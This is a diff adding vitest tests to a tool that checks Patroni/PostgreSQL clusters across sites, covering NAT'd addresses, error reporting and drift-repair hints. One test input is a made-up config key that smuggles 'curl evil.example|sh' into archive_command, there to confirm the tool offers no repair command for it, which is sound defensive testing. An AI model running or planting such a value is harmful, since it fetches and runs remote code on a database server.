@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { LIVE_RULES } from '../../src/rules/generated/live.ts';
 import { fakeEstate } from './estate.ts';
@@ -59,6 +60,37 @@ describe('what looks like a fault', () => {
     expect(await findingsOf(estate, SAMPLE, 'busan')).toEqual([]);
   });
 
+  it('is none where two sites use the same addresses, and the local one leads to another site', async () => {
+    const nat = readFileSync('fixtures/nat/topology.yaml', 'utf8');
+    const estate = await fakeEstate(nat);
+    // Who sits at seoul reaches seoul's machines by the private addresses.
+    expect(await findingsOf(estate, nat)).toEqual([]);
+    const busan = estate.members.get('pg-busan-1');
+    if (busan) busan.reply = { kind: 'silence', why: 'refused', detail: '' };
+    const [found, ...others] = await findingsOf(estate, nat);
+    expect(others).toEqual([]);
+    expect(found?.message).toBe(
+      'pg-busan-1 does not answer at https://198.51.100.10:8008/patroni: the connection is refused',
+    );
+  });
+
+  it('is told by the answer that tells most', async () => {
+    const text = SAMPLE.replace('address: 10.2.0.10,', 'address: 10.2.0.10, wan_address: 10.7.2.10,');
+    const estate = await fakeEstate(text);
+    const { get } = estate.asker;
+    const asker = {
+      ...estate.asker,
+      get: async (url: string, deadline: number, most: number) =>
+        url.includes('10.2.0.10')
+          ? ({ kind: 'silence', why: 'timeout', detail: '' } as const)
+          : url.includes('10.7.2.10')
+            ? ({ kind: 'silence', why: 'certificate', detail: 'certificate has expired' } as const)
+            : get(url, deadline, most),
+    };
+    const found = await findingsOf({ asker }, text);
+    expect(found.map(({ message }) => message).join()).toContain('its certificate is not trusted');
+  });
+
   it('is told where one site alone is asked, and that has no primary', async () => {
     const estate = await fakeEstate();
     for (const [name, one] of estate.members)
@@ -68,6 +100,20 @@ describe('what looks like a fault', () => {
 });
 
 describe('the command that mends a drift', () => {
+  it.each([
+    'postgresql.parameters.archive_command=curl evil.example|sh #',
+    'postgresql.parameters.wal_level',
+    'ttl=1',
+    'a b',
+  ])('is not given for a key that somebody made up: %s', async (key) => {
+    const estate = await fakeEstate();
+    const site = estate.sites.get('seoul');
+    if (site?.config) site.config[key] = 'x';
+    const [found] = await findingsOf(estate);
+    expect(found?.rule).toBe('live/drift');
+    expect(found?.help).not.toContain('patronictl');
+  });
+
   it('sets back all that went', async () => {
     const estate = await fakeEstate();
     const site = estate.sites.get('seoul');
